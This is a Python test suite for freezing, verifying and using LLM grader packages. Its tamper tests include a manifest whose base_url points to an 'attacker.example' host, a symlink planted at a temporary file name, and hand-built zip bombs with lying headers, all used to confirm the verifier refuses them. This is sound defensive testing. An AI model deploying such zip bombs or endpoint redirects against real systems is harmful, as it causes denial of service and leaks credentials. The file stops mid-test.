"""Frozen grader packages: freeze, verify, grade, canary; the package is the grader that passed."""

import hashlib
import json
import os
import socket
import struct
import subprocess
import sys
import zipfile
import zlib
from pathlib import Path

import pytest
from sqlalchemy import func
from sqlmodel import Session, select

from calibration import calibrate
from cli import main
from db.engine import engine_for, session, upgrade
from db.models import Case, FrozenPackage, GraderScore, Response, Task
from db.rubrics import rubric_by_hash
from errors import UserError
from grading.config import GraderSettings, store_config
from grading.grader import prepare
from package.canary import canary
from package.format import Answer
from package.freeze import _jsonl, freeze
from package.grade import grade_responses, read_responses, request_for, summary, summary_markdown
from package.verify import verify
from results.leaderboard import leaderboard
from tests.factories import package_answers, validated_config
from tests.openai_server import OpenAIServer, _canonical, _schema_of, sample_document
from tests.package.conftest import KEY
from tests.peak_memory import run_measured

ROOT = Path(__file__).resolve().parents[2]


@pytest.fixture
def server():
    with OpenAIServer() as srv:
        yield srv


def _frozen(sqlite_url: str, server: OpenAIServer, out: Path, **options) -> int:
    with Session(engine_for(sqlite_url), expire_on_commit=False) as s:
        cid = validated_config(s, server.base_url, api_key=KEY)
        freeze(s, config_id=cid, out=out, **options)
    return cid


@pytest.mark.slow
def test_freeze_verify_grade_and_canary(sqlite_url: str, server: OpenAIServer,
                                        tmp_path: Path) -> None:
    _frozen(sqlite_url, server, tmp_path / "grader.zip", canary_size=5)
    with Session(engine_for(sqlite_url)) as s:
        row = s.exec(select(FrozenPackage)).one()
        study = {g.response_id: g for g in s.exec(select(GraderScore))}
        responses = list(s.exec(select(Response).order_by(Response.response_id)))
    pkg = verify(tmp_path / "grader.zip", sha256=row.sha256)
    assert pkg.sha256 == row.sha256
    assert len(pkg.canary) == 5 and len(pkg.tasks) == 12
    assert pkg.report.validates and pkg.report.passed
    assert pkg.manifest["heldout_looks"] == [{"config_id": 1, "passed": True, "revoked": False}]
    assert all(c["request_hash"] == study[c["response_id"]].request_hash for c in pkg.canary)

    sent = len(server.chat_requests())
    same = canary(pkg, base_url=server.base_url, api_key=KEY)
    assert len(server.chat_requests()) == sent + 5  # no cache: every canary item is sent
    assert not same["drift"] and same["criteria_agreement"] == 1.0 and same["overall_mad"] == 0
    assert same["new_models_returned"] == [] and same["new_system_fingerprints"] == []

    server.model_alias = {pkg.config.model: "gpt-4o-2099-01-01"}  # a new snapshot, same scores
    renamed = canary(pkg, base_url=server.base_url, api_key=KEY)
    assert not renamed["drift"] and renamed["new_models_returned"] == ["gpt-4o-2099-01-01"]

    server.answer = lambda body: json.dumps(sample_document(_schema_of(body), 12345))
    drifted = canary(pkg, base_url=server.base_url, api_key=KEY)
    assert drifted["drift"] and drifted["criteria_agreement"] < 0.9

    server.answer = None  # the frozen grader scores new responses as the study's run did
    rows = grade_responses(pkg, package_answers(responses[:3]), base_url=server.base_url, api_key=KEY)
    for r in rows:
        assert r["ok"] and r["overall"] == study[r["response_id"]].overall


@pytest.mark.slow
def test_freeze_never_writes_through_a_link_at_a_temporary_name(sqlite_url: str,
                                                                server: OpenAIServer,
                                                                tmp_path: Path) -> None:
    """In a shared folder (/tmp) another user may plant `.NAME.partial`, the name a freeze
    wrote to before it renamed, as a link to a file of whoever freezes."""
    victim = tmp_path / "victim"
    victim.write_text("precious")
    (tmp_path / ".g.zip.partial").symlink_to(victim)
    _frozen(sqlite_url, server, tmp_path / "g.zip")
    assert victim.read_text() == "precious"
    assert verify(tmp_path / "g.zip").report.validates
    assert [p.name for p in tmp_path.glob(".g.zip*")] == [".g.zip.partial"]  # nothing left


@pytest.mark.slow
def test_package_grade_summarizes_like_the_study(sqlite_url: str, server: OpenAIServer,
                                                 tmp_path: Path) -> None:
    """The same grader answers give the same leaderboard, through the study or a package."""
    cid = _frozen(sqlite_url, server, tmp_path / "g.zip")
    with Session(engine_for(sqlite_url)) as s:
        responses = list(s.exec(select(Response).order_by(Response.response_id)))
        study_overall = leaderboard(s, config_id=cid)
        study_cells = leaderboard(s, config_id=cid, by="family,level")
    pkg = verify(tmp_path / "g.zip")
    rows = grade_responses(pkg, package_answers(responses), base_url=server.base_url, api_key=KEY)
    got = summary(pkg, rows)
    assert got["graded"] == len(responses) and got["failed"] == 0
    assert got["overall"] == study_overall
    assert got["by_family_level"] == study_cells
    assert {(r["family"], r["level"]) for r in got["by_family_level"]} == {
        ("differential", 1), ("lesion", 2), ("rationale", 3)}


@pytest.mark.slow
def test_package_grade_of_the_full_export_summarizes_like_the_study(
        sqlite_url: str, server: OpenAIServer, tmp_path: Path) -> None:
    """`nmb export responses --format jsonl` holds the exam takers' answers too: graded through
    the package they are summarised as their human groups, each person counted, as in the
    study's leaderboard (they were one 'unnamed model'); the scores file names their person."""
    from db.users import add_user
    from grading.grader import grade

    cid = _frozen(sqlite_url, server, tmp_path / "g.zip")
    with Session(engine_for(sqlite_url), expire_on_commit=False) as s:
        for name, role in (("student1", "student"), ("student2", "student"),
                           ("physician1", "physician")):
            user = add_user(s, name=name, role=role, password="pw")
            s.flush()
            for task in s.exec(select(Task)).all():
                s.add(Response(response_id=f"{name}-{task.task_id}", task_id=task.task_id,
                               source=role, user_id=user.id, text=f"{name}: MS.",
                               turns=["Still MS."] if task.stages else None,
                               blind_code=f"R-{name}-{task.task_id}"))
        s.commit()
        assert grade(s, config_id=cid, api_key=KEY, trust_base_url=server.base_url).failed == 0
        study_overall = leaderboard(s, config_id=cid)
        study_cells = leaderboard(s, config_id=cid, by="family,level")
    assert main(["export", "responses", "--format", "jsonl", "--out",
                 str(tmp_path / "all.jsonl")]) == 0
    answers = read_responses(tmp_path / "all.jsonl")
    rows = grade_responses(verify(tmp_path / "g.zip"), answers, base_url=server.base_url,
                           api_key=KEY)
    got = summary(verify(tmp_path / "g.zip"), rows)
    assert got["graded"] == len(answers) == 24 + 36 and got["failed"] == 0
    assert {r["who"] for r in got["overall"] if r["group"] == "human"} == {"student",
                                                                          "physician"}
    assert got["overall"] == study_overall
    assert got["by_family_level"] == study_cells
    taker = next(r for r in rows if r["response_id"] == "student2-task3")
    assert taker["source"] == "student" and taker["user"].startswith("user-")
    assert "| group |" in summary_markdown(got)


@pytest.mark.slow
def test_freeze_refuses_unvalidated_and_revoked_configs(sqlite_url: str, server: OpenAIServer,
                                                        tmp_path: Path) -> None:
    with Session(engine_for(sqlite_url), expire_on_commit=False) as s:
        cid = validated_config(s, server.base_url, api_key=KEY)
        other = store_config(s, GraderSettings(base_url=server.base_url, temperature=0.5))
        s.commit()
        with pytest.raises(UserError, match="not validated"):
            freeze(s, config_id=other.id, out=tmp_path / "out" / "p.zip")
        with pytest.raises(UserError, match="no grader config"):
            freeze(s, config_id=cid + 5, out=tmp_path / "out" / "p.zip")
        with pytest.raises(UserError, match="--canary must be 1-500, got 501"):
            freeze(s, config_id=cid, out=tmp_path / "out" / "p.zip", canary_size=501)
        with pytest.raises(UserError, match="needs a reason"):
            calibrate.revoke(s, config_id=cid, reason="  ", actor="admin")
        calibrate.revoke(s, config_id=cid, reason="expert scores revised", actor="admin")
        with pytest.raises(UserError, match="revoked"):
            freeze(s, config_id=cid, out=tmp_path / "out" / "p.zip")
        assert s.exec(select(func.count()).select_from(FrozenPackage)).one() == 0
    assert not (tmp_path / "out").exists()


def _rewrite(src: Path, dst: Path, *, change: dict[str, bytes | None] | None = None,
             add: dict[str, bytes] | None = None, rehash: bool = True) -> Path:
    """A copy of package `src` with members replaced (None: removed) or added; with `rehash`
    the manifest's sha256 entries follow the new content (a careful forger)."""
    change, add = change or {}, add or {}
    with zipfile.ZipFile(src) as zf:
        members = {n: zf.read(n) for n in zf.namelist()}
    manifest = json.loads(members["manifest.json"])
    for name, data in change.items():
        if data is None:
            members.pop(name)
        else:
            members[name] = data
            if rehash and name != "manifest.json":
                manifest["sha256"][name] = hashlib.sha256(data).hexdigest()
    if "manifest.json" not in change:
        members["manifest.json"] = json.dumps(manifest).encode()
    members.update(add)
    with zipfile.ZipFile(dst, "w") as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return dst


def _manifest(pkg: Path) -> dict:
    with zipfile.ZipFile(pkg) as zf:
        return json.loads(zf.read("manifest.json"))


def _verify_cli(pkg: Path, capsys, *extra: str) -> tuple[int, str]:
    code = main(["package", "verify", str(pkg), *extra])
    err = capsys.readouterr().err
    return code, err


@pytest.mark.slow
def test_verify_refuses_every_tampering_in_one_line(sqlite_url: str, server: OpenAIServer,
                                                    tmp_path: Path, capsys) -> None:
    good = tmp_path / "good.zip"
    _frozen(sqlite_url, server, good, canary_size=3)
    assert _verify_cli(good, capsys)[0] == 0
    with zipfile.ZipFile(good) as zf:
        names = zf.namelist()
    cases: dict[str, tuple[Path, str]] = {}
    for name in names:  # a byte changed in any member, the manifest's hash left as it was
        with zipfile.ZipFile(good) as zf:
            data = bytearray(zf.read(name))
        data[len(data) // 2] ^= 0x01
        cases[f"flip {name}"] = (_rewrite(good, tmp_path / f"flip-{name}.zip",
                                          change={name: bytes(data)}, rehash=False),
                                 "" if name == "manifest.json" else name)
    cases["removed"] = (_rewrite(good, tmp_path / "rm.zip", change={"report.html": None}),
                        "report.html")
    cases["added"] = (_rewrite(good, tmp_path / "add.zip", add={"notes.txt": b"hi"}), "notes.txt")
    m = _manifest(good)
    m["config"]["temperature"] = 0.7
    cases["config edit"] = (_rewrite(good, tmp_path / "cfg.zip",
                                     change={"manifest.json": json.dumps(m).encode()}),
                            "config_hash")
    m = _manifest(good)
    m["config"]["base_url"] = "http://attacker.example/v1"
    cases["base_url edit"] = (_rewrite(good, tmp_path / "url.zip",
                                       change={"manifest.json": json.dumps(m).encode()}),
                              "config_hash")
    m = _manifest(good)
    m["report"]["gate"]["pearson"]["value"] = 0.99
    cases["gate edit"] = (_rewrite(good, tmp_path / "gate.zip",
                                   change={"manifest.json": json.dumps(m).encode()}), "gate")
    m = _manifest(good)
    m["canary"]["drift_limits"]["overall_mad_max"] = 1e9
    cases["drift limits"] = (_rewrite(good, tmp_path / "drift.zip",
                                      change={"manifest.json": json.dumps(m).encode()}),
                             "drift_limits")
    with zipfile.ZipFile(good) as zf:
        report = json.loads(zf.read("report.json"))
    report["gate"][0]["value"] = 0.99  # the report's r, rehashed: the manifest disagrees
    cases["report edit"] = (_rewrite(good, tmp_path / "rep.zip",
                                     change={"report.json": json.dumps(report).encode()}), "gate")
    with zipfile.ZipFile(good) as zf:
        tasks = zf.read("tasks.jsonl").replace(b"Synthetic record.", b"Another record.")
    cases["reference edit, rehashed"] = (_rewrite(good, tmp_path / "ref.zip",
                                                  change={"tasks.jsonl": tasks}), "canary item")
    for what, (pkg, needle) in cases.items():
        code, err = _verify_cli(pkg, capsys)
        assert code == 2, what
        assert err.count("\n") == 1 and "Traceback" not in err, (what, err)
        assert needle in err, (what, err)
    # A consistent forgery passes the internal checks; the published digest does not match.
    code, err = _verify_cli(good, capsys, "--sha256", "0" * 64)
    assert code == 2 and "not the published" in err


@pytest.mark.slow
def test_a_vision_config_is_packaged_with_its_key_images(sqlite_url: str, server: OpenAIServer,
                                                         nmb_home: Path, tmp_path: Path,
                                                         capsys) -> None:
    """The package lists each case's key slices by sha256; the requests it rebuilds, images
    included, are the study's; the PNGs are carried (--with-images) or supplied (--images)."""
    with Session(engine_for(sqlite_url), expire_on_commit=False) as s:
        cid = validated_config(s, server.base_url, api_key=KEY, vision=True)
        study = {g.response_id: g.request_hash for g in s.exec(select(GraderScore))}
        freeze(s, config_id=cid, out=tmp_path / "listed.zip", canary_size=4)
        freeze(s, config_id=cid, out=tmp_path / "carried.zip", canary_size=4, with_images=True)
    with zipfile.ZipFile(tmp_path / "listed.zip") as zf:
        assert not [n for n in zf.namelist() if n.startswith("images/")]
        listing = [json.loads(x) for x in zf.read("images.jsonl").splitlines()]
    assert len(listing) == 12 and all(len(row["images"]) == 3 for row in listing)

    code, err = _verify_cli(tmp_path / "listed.zip", capsys)
    assert code == 2 and err.count("\n") == 1 and "key images are neither" in err
    code, err = _verify_cli(tmp_path / "listed.zip", capsys, "--images", str(tmp_path / "none"))
    assert code == 2 and err.count("\n") == 1 and "cannot read" in err
    supplied = verify(tmp_path / "listed.zip", images=nmb_home / "key-slices")
    carried = verify(tmp_path / "carried.zip")
    for pkg in (supplied, carried):  # verify rebuilt the canary; every request is the study's
        with Session(engine_for(sqlite_url)) as s:
            for r in s.exec(select(Response)):
                assert request_for(pkg, r).request_hash == study[r.response_id]
    sent = len(server.chat_requests())
    assert not canary(carried, base_url=server.base_url, api_key=KEY)["drift"]
    for request in server.chat_requests()[sent:]:
        parts = request.body["messages"][1]["content"]
        assert [p["type"] for p in parts] == ["text", *["text", "image_url"] * 3]  # captioned

    with zipfile.ZipFile(tmp_path / "carried.zip") as zf:
        png = next(n for n in zf.namelist() if n.startswith("images/"))
        other = zf.read(png)[:-1] + b"\x00"
    forged = {  # each consistent with the manifest (rehashed): caught by what the name says
        "image swapped": _rewrite(tmp_path / "carried.zip", tmp_path / "swap.zip",
                                  change={png: other}),
        "image added": _rewrite(tmp_path / "carried.zip", tmp_path / "add.zip",
                                change={f"images/{'0' * 64}.png": b"x"}),
        "listing removed": _rewrite(tmp_path / "carried.zip", tmp_path / "nolist.zip",
                                    change={"images.jsonl": None}),
    }
    for what, pkg in forged.items():
        code, err = _verify_cli(pkg, capsys)
        assert code == 2 and err.count("\n") == 1 and "Traceback" not in err, (what, err)


@pytest.mark.slow
def test_a_case_listing_one_image_a_thousand_times_is_refused(sqlite_url: str,
                                                               server: OpenAIServer,
                                                               tmp_path: Path) -> None:
    """images.jsonl may list one carried image many times (each key slice is listed by its
    sha256), and verify rebuilds the canary's requests with every listed image as a data URL:
    a member of 8 MiB listed 1,000 times in a canary case's images made an 11 GB request
    (MemoryError under `ulimit -v` 2 GiB). A case's request now carries at most 500 images and
    64 MiB of them: one line, exit 2, in bounded memory."""
    with Session(engine_for(sqlite_url), expire_on_commit=False) as s:
        cid = validated_config(s, server.base_url, api_key=KEY, vision=True)
        freeze(s, config_id=cid, out=tmp_path / "carried.zip", canary_size=1, with_images=True)
    good = tmp_path / "carried.zip"
    with zipfile.ZipFile(good) as zf:
        task_id = json.loads(zf.read("canary.jsonl"))["task_id"]
        case_id = next(json.loads(x)["case_id"] for x in zf.read("tasks.jsonl").splitlines()
                       if json.loads(x)["task_id"] == task_id)
        listing = [json.loads(x) for x in zf.read("images.jsonl").splitlines()]
    big = os.urandom(8 * MiB)
    sha = hashlib.sha256(big).hexdigest()
    shown = next(row["images"] for row in listing if row["case_id"] == case_id)
    for many, needle in ((1000, "more than 500 images"), (9, "add up to more than 64 MiB")):
        for row in listing:
            if row["case_id"] == case_id:
                row["images"] = shown + [{"caption": "slice", "sha256": sha}] * many
        forged = _resealed(good, tmp_path / f"many{many}.zip", _manifest(good), {
            "images.jsonl": "".join(json.dumps(r) + "\n" for r in listing).encode(),
            f"images/{sha}.png": big})
        code, err, peak = _verify_child(forged)
        assert code == 2 and err.count("\n") == 1 and "Traceback" not in err, err
        assert needle in err and case_id in err, err
        assert peak < 500 * 10**6, peak


@pytest.mark.slow
def test_a_text_package_holds_no_images(sqlite_url: str, server: OpenAIServer,
                                        tmp_path: Path, capsys) -> None:
    cid = _frozen(sqlite_url, server, tmp_path / "text.zip")
    with Session(engine_for(sqlite_url)) as s, pytest.raises(UserError, match="sends no images"):
        freeze(s, config_id=cid, out=tmp_path / "again.zip", with_images=True)
    pkg = _rewrite(tmp_path / "text.zip", tmp_path / "img.zip",
                   change={"images.jsonl": b'{"case_id": "case0", "images": []}\n'})
    code, err = _verify_cli(pkg, capsys)
    assert code == 2 and "sends none" in err


@pytest.mark.slow
def test_malformed_packages_are_one_line(tmp_path: Path, capsys) -> None:
    def zipped(name: str, members: dict[str, bytes]) -> Path:
        path = tmp_path / name
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
            for member, data in members.items():
                zf.writestr(member, data)
        return path

    full = {"rubric.toml": b"", "tasks.jsonl": b"", "canary.jsonl": b"", "protocol.json": b"{}",
            "report.json": b"{}", "report.html": b""}
    sha = {n: hashlib.sha256(d).hexdigest() for n, d in full.items()}
    base = {"format": "nmb-package-2", "created_at": "", "tool_version": "", "rubric": {},
            "report": {}, "heldout_looks": [], "canary": {}, "sha256": sha}
    bad = {
        "list": zipped("list.zip", {**full, "manifest.json": b"[1, 2]"}),
        "no config": zipped("nocfg.zip", {**full, "manifest.json": json.dumps(base).encode()}),
        "deep": zipped("deep.zip", {**full, "manifest.json": b"[" * 100000 + b"]" * 100000}),
        "not a zip": tmp_path / "plain.zip",
        "missing file": tmp_path / "absent.zip",
    }
    (tmp_path / "plain.zip").write_bytes(b"PK\x03\x04 not really")
    bomb = tmp_path / "bomb.zip"
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in full.items():
            zf.writestr(name, data)
        with zf.open("manifest.json", "w") as fh:  # 1 GiB of zeros, about 1 MB compressed
            chunk = b" " * 2**24
            for _ in range(64):
                fh.write(chunk)
    assert bomb.stat().st_size < 4 * 2**20
    bad["bomb"] = bomb
    for what, path in bad.items():
        code, err = _verify_cli(path, capsys)
        assert code == 2 and err.count("\n") == 1 and "Traceback" not in err, (what, err)


def test_jsonl_keeps_the_stored_order() -> None:
    """Test scores are listed in the prompt in stored order: sorting keys would change it."""
    row = {"scores": {"MoCA": 22, "ACE-III": 81, "EDSS": 3.5}}
    assert json.loads(_jsonl([row]))["scores"] == row["scores"]
    assert list(json.loads(_jsonl([row]))["scores"]) == ["MoCA", "ACE-III", "EDSS"]


def test_the_demo_package_rebuilds_the_validated_requests(demo_study: Path,
                                                          tmp_path: Path) -> None:
    """Every request the validating run filed, rebuilt from the package, is byte-identical
    (same hash of the canonical body), on every demo case (several test scores and series,
    multi-turn tasks); and the canary of an untouched package never refuses, seeds 0-9."""
    with session() as s:
        calibrate.run(s, config_id=1, part="heldout")
        freeze(s, config_id=1, out=tmp_path / "demo.zip")
        grades = list(s.exec(select(GraderScore).where(GraderScore.config_id == 1)))
        responses = {r.response_id: r for r in s.exec(select(Response))}
        config = calibrate.get_config(s, 1)
        rubric = rubric_by_hash(s, config.rubric_hash)
        study = {g.response_id: prepare(s, config, rubric, responses[g.response_id]).request_hash
                 for g in grades}
        cases = list(s.exec(select(Case)))
        multi_turn = s.exec(select(func.count()).select_from(Task).where(Task.level == 3)).one()
        for seed in range(10):
            freeze(s, config_id=1, out=tmp_path / f"seed{seed}.zip", seed=seed)
    assert multi_turn > 0
    assert any(list(c.scores or {}) != sorted(c.scores or {}) for c in cases)  # order matters
    pkg = verify(tmp_path / "demo.zip")
    assert len(grades) == len(responses)
    for g in grades:
        rebuilt = request_for(pkg, responses[g.response_id]).request_hash
        assert rebuilt == g.request_hash == study[g.response_id], g.response_id
    for seed in range(10):
        assert verify(tmp_path / f"seed{seed}.zip").canary  # rebuilds every canary request


@pytest.mark.slow
def test_no_request_reaches_an_address_the_package_names(sqlite_url: str, tmp_path: Path,
                                                         monkeypatch) -> None:
    """The package's config names the server it was graded on; grading with the package sends
    to the user's endpoint (here OPENAI_BASE_URL, standing in for the official API), never to
    the package's, unless --base-url names it on the command line."""
    with OpenAIServer() as named, OpenAIServer() as official:
        _frozen(sqlite_url, named, tmp_path / "g.zip")
        before = len(named.chat_requests())
        lines = tmp_path / "new.jsonl"
        lines.write_text('{"response_id": "m1", "task_id": "task2", "text": "Glioma."}\n')
        monkeypatch.setenv("OPENAI_BASE_URL", official.base_url)
        monkeypatch.setenv("OPENAI_API_KEY", KEY)
        assert main(["package", "grade", str(tmp_path / "g.zip"), str(lines),
                     "--out", str(tmp_path / "s.jsonl")]) == 0
        assert main(["package", "canary", str(tmp_path / "g.zip")]) == 0
        assert len(named.chat_requests()) == before
        assert official.chat_requests() and all(
            r.headers.get("authorization") == f"Bearer {KEY}" for r in official.chat_requests())
        assert main(["package", "grade", str(tmp_path / "g.zip"), str(lines), "--out",
                     str(tmp_path / "t.jsonl"), "--base-url", named.base_url]) == 0
        assert len(named.chat_requests()) == before + 1


@pytest.mark.slow
def test_cli_package_commands(nmb_home: Path, server: OpenAIServer, tmp_path: Path) -> None:
    upgrade()
    with session() as s:
        cid = validated_config(s, server.base_url, api_key=KEY)
    env = {**os.environ, "OPENAI_API_KEY": KEY}

    def nmb(*args: str) -> subprocess.CompletedProcess:
        return subprocess.run([sys.executable, "-m", "cli", "package", *args], cwd=ROOT, env=env,
                              capture_output=True, text=True, timeout=120)

    out = nmb("freeze", "--config", str(cid), "--out", str(tmp_path / "g.zip"), "--canary", "4")
    assert out.returncode == 0, out.stderr
    frozen = json.loads(out.stdout)
    assert frozen["canary_items"] == 4
    assert frozen["sha256"] == hashlib.sha256((tmp_path / "g.zip").read_bytes()).hexdigest()
    again = nmb("freeze", "--config", str(cid), "--out", str(tmp_path / "g.zip"))
    assert again.returncode == 2 and again.stderr.count("\n") == 1 and "exists" in again.stderr
    ok = nmb("verify", str(tmp_path / "g.zip"), "--sha256", frozen["sha256"])
    assert ok.returncode == 0 and json.loads(ok.stdout)["ok"], ok.stderr
    assert f"(sha256 {frozen['sha256']}, the digest given)" in ok.stderr
    ok = nmb("canary", str(tmp_path / "g.zip"), "--base-url", server.base_url)
    assert ok.returncode == 0, ok.stderr
    assert f"sha256 {frozen['sha256']}" in ok.stderr  # the digest it checked, printed
    assert "not shown to be its authors'" in ok.stderr  # neither a digest nor a key: said
    assert json.loads(ok.stdout)["drift"] is False
    responses = tmp_path / "new.jsonl"
    responses.write_text('{"response_id": "m1", "task_id": "task2", "text": "Glioma.", '
                         '"model": "new-model"}\n')
    sent = len(server.chat_requests())
    nowhere = nmb("grade", str(tmp_path / "g.zip"), str(responses), "--out",
                  str(tmp_path / "missing" / "s.jsonl"), "--base-url", server.base_url)
    assert nowhere.returncode == 2 and "cannot write" in nowhere.stderr
    assert len(server.chat_requests()) == sent  # refused before any request was paid for
    scored = nmb("grade", str(tmp_path / "g.zip"), str(responses), "--out",
                 str(tmp_path / "s.jsonl"), "--base-url", server.base_url)
    assert scored.returncode == 0, scored.stderr
    (row,) = [json.loads(x) for x in (tmp_path / "s.jsonl").read_text().splitlines()]
    assert row["ok"] and row["model"] == "new-model" and 0 <= row["overall"] <= 1
    assert "### By family x level" in scored.stdout and "| new-model |" in scored.stdout
    result = json.loads((tmp_path / "s.summary.json").read_text())
    assert result["overall"][0]["who"] == "new-model" and result["graded"] == 1
    assert KEY not in (tmp_path / "s.jsonl").read_text() + scored.stdout + scored.stderr


@pytest.mark.slow
def test_bad_response_files_are_refused(sqlite_url: str, server: OpenAIServer,
                                        tmp_path: Path) -> None:
    _frozen(sqlite_url, server, tmp_path / "p.zip", canary_size=3)
    lines = tmp_path / "r.jsonl"
    lines.write_text('{"response_id": "n1", "task_id": "task0", "text": "MS."}\n{"task_id": 3}\n')
    with pytest.raises(UserError, match=r"r.jsonl line 2: 'response_id' must be non-empty text"):
        read_responses(lines)
    lines.write_bytes(b'{"response_id": "n1", "task_id": "task0", "text": "\xff"}\n')
    with pytest.raises(UserError, match="not UTF-8"):
        read_responses(lines)
    lines.write_text('{"response_id": "n1", "task_id": "task99", "text": "MS."}\n')
    with pytest.raises(UserError, match="task 'task99' is not in the package"):
        grade_responses(verify(tmp_path / "p.zip"), read_responses(lines), api_key=KEY)
    base = '{"response_id": "n1", "task_id": "task0", "text": "MS.", '
    for extra, refusal in (
            ('"source": "nurse"', "line 1: source 'nurse' is not one of model, physician, student"),
            ('"source": ["x"]', r"line 1: source \['x'\] is not one of"),
            ('"source": "student"', "line 1: a student's answer names no model and names its "
                                    "person in 'user'"),
            ('"source": "student", "user": ""', "a student's answer names no model"),
            ('"source": "student", "user": "u-1", "model": "m"', "a student's answer names no"),
            ('"source": "physician", "user": "u\\u0000"', "a physician's answer names no")):
        lines.write_text(base + extra + "}\n")
        with pytest.raises(UserError, match=refusal):
            read_responses(lines)
    lines.write_text(base + '"source": "model", "user": "ignored"}\n')
    assert read_responses(lines)[0].user is None  # a model's line: as before
    # A line dense with values (63 MiB of them took 1.9 GB), or a text or turns beyond what
    # the study stores of a response: refused, naming the line, before anything is sent.
    for extra, refusal in (
            ('"junk": [' + "[]," * 10_000 + "[]]", "line 1: more than 10,000 JSON values"),
            ('"text": "' + "a" * 200_001 + '"', "line 1: text is 200,001 characters, more than "
                                               "the limit of 200,000"),
            ('"turns": ' + json.dumps(["a"] * 21), "line 1: turns has 21 items, more than the "
                                                     "limit of 20")):
        lines.write_text(base.replace('"text": "MS.", ', "") + extra
                         + (', "text": "MS."' if '"text"' not in extra else "") + "}\n")
        with pytest.raises(UserError, match=refusal):
            read_responses(lines)


@pytest.mark.slow
def test_calibrate_page_freezes_a_validated_config(nmb_home: Path, server: OpenAIServer) -> None:
    from tests.apptest import make_user, page

    upgrade()
    with session() as s:
        validated_config(s, server.base_url, api_key=KEY)
    at = page("pages/calibrate.py", make_user("admin1", "admin")).run()
    next(b for b in at.button if b.label == "Freeze package").click().run(timeout=60)
    assert not at.exception, at.exception
    assert any("frozen" in m.value for m in at.success), [e.value for e in at.error]
    with session() as s:
        (row,) = s.exec(select(FrozenPackage)).all()
    assert any(c.value == row.sha256 for c in at.code)  # the digest to publish, shown in full
    assert Path(row.path).parent == nmb_home / "packages"
    assert verify(Path(row.path)).manifest["canary"]["items"] == 12  # every held-out item


# ---------------------------------------------------------------- hostile zips, memory bounded

MiB = 2**20


def _zeros(mib: int) -> tuple[bytes, int]:
    """(raw deflate stream, CRC-32) of `mib` MiB of zeros, built in milliseconds: one fully
    flushed block of 1 MiB repeated (no back-reference crosses a full flush), then the end."""
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = c.compress(bytes(MiB)) + c.flush(zlib.Z_FULL_FLUSH)
    crc = 0
    for _ in range(mib):
        crc = zlib.crc32(bytes(MiB), crc)
    return block * mib + c.flush(), crc


def _raw_zip(path: Path, entries: list[tuple[str, bytes, int, int]], *,
             entry_count: int | None = None) -> Path:
    """A zip written by hand from (name, deflated data, CRC-32, declared size) entries: the
    central directory says what the test wants it to say. `entry_count`: a lying end record."""
    local, central = bytearray(), bytearray()
    for name, data, crc, size in entries:
        encoded = name.encode()
        central += struct.pack("<4s4B4HL2L5H2L", b"PK\x01\x02", 20, 3, 20, 0, 0, 8, 0, 33, crc,
                               len(data), size, len(encoded), 0, 0, 0, 0, 0, len(local))
        central += encoded
        local += struct.pack("<4s2B4HL2L2H", b"PK\x03\x04", 20, 0, 0, 8, 0, 33, crc, len(data),
                             size, len(encoded), 0) + encoded + data
    count = len(entries) if entry_count is None else entry_count
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, len(central), len(local), 0)
    path.write_bytes(bytes(local + central) + end)
    return path


def _small(name: str, data: bytes) -> tuple[str, bytes, int, int]:
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    return name, c.compress(data) + c.flush(), zlib.crc32(data), len(data)


def _base_members() -> list[tuple[str, bytes, int, int]]:
    return [_small(n, b"{}") for n in ("manifest.json", "rubric.toml", "protocol.json",
                                       "report.json", "seal.json")]


def _verify_child(pkg: Path, limit: int = 2 * 2**30) -> tuple[int, str, int]:
    """`python -m cli package verify PKG` under an address-space limit (`ulimit -v`): (exit
    code, stderr, peak resident memory in bytes of that process alone)."""
    out, peak = run_measured([sys.executable, "-m", "cli", "package", "verify", str(pkg)],
                             pkg.with_suffix(".peak"), address_space=limit, cwd=ROOT,
                             capture_output=True, text=True)
    return out.returncode, out.stderr, peak


@pytest.fixture(scope="module")
def hostile_zips(tmp_path_factory) -> dict[str, tuple[Path, str]]:
    """Zips of a few MB that inflate to gigabytes, or that hold thousands of members, each with
    the words its refusal must name."""
    root = tmp_path_factory.mktemp("hostile")
    big, big_crc = _zeros(511)
    png, png_crc = _zeros(8)
    names = [f"images/{hashlib.sha256(str(i).encode()).hexdigest()}.png" for i in range(5000)]
    out = {
        "5 members of 511 MiB": (_raw_zip(root / "five.zip", [
            *_base_members()[:2], *[(n, big, big_crc, 511 * MiB) for n in (
                "tasks.jsonl", "canary.jsonl", "report.json", "report.html", "protocol.json")]]),
            "larger than"),
        "400 images of 8 MiB": (_raw_zip(root / "images.zip", [
            *_base_members(), *[(n, png, png_crc, 8 * MiB) for n in names[:400]]]),
            "inflate to more than"),
        # headers lie: each image claims 64 KiB, inflates to 8 MiB; the CRC is of 8 MiB
        "sizes understated": (_raw_zip(root / "lie.zip", [
            *[(n, png, png_crc, 64 * 1024) for n in names[:400]], *_base_members()]),
            "fails its CRC-32 check"),
        "5000 members": (_raw_zip(root / "many.zip", [_small(n, b"") for n in names]),
                         "more than 4096"),
        "5000 members, end record says 7": (_raw_zip(root / "many7.zip", [
            _small(n, b"") for n in names], entry_count=7), "more than 4096"),
    }
    for path, _ in out.values():
        assert path.stat().st_size < 15 * MiB
    return out


@pytest.mark.slow
@pytest.mark.parametrize("case", ["5 members of 511 MiB", "400 images of 8 MiB",
                                  "sizes understated", "5000 members",
                                  "5000 members, end record says 7"])
def test_verify_of_an_oversized_zip_is_one_line_in_bounded_memory(hostile_zips, case) -> None:
    """Each zip is refused from its central directory or while its first member is read:
    peak memory of the verifying process under 500 MB, under `ulimit -v` 2 GiB no MemoryError,
    one line, exit 2."""
    pkg, needle = hostile_zips[case]
    code, err, peak = _verify_child(pkg)
    assert code == 2 and err.count("\n") == 1 and "Traceback" not in err, err
    assert needle in err, err
    assert peak < 500 * 10**6, peak


@pytest.mark.slow
def test_a_member_shorter_than_declared_or_not_deflated_is_refused(tmp_path: Path,
                                                                    capsys) -> None:
    data, crc = _zeros(1)
    short = _raw_zip(tmp_path / "short.zip", [*_base_members(),
                                              ("tasks.jsonl", data, crc, 2 * MiB)])
    code, err = _verify_child(short)[:2]
